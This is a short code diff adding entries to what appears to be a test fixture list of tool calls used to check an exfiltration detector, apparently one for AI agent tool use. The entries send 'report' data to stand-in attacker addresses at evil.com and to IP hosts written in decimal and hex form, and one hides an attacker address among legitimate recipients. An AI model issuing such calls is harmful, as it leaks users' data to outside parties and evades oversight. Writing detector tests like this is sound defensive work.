@@ -286,6 +286,9 @@ UNPACKED = [
     ("pass_along", {"addr": "attacker@evil.com", "text": "report"}),
     ("do_it", {"x": "attacker@evil.com", "text": "report"}),
     ("http_request", {"location": "http://167837955/", "body": "report"}),
+    ("broadcast", {"audience": ["team@corp.example", "attacker+x@evil.com"], "text": "r"}),
+    ("uploadReport", {"server": "0xa.1.1.3", "report": "r"}),
+    ("mail_out", {"target": {"to": "attacker@evil.com"}, "body": "report"}),
 ]
 
 
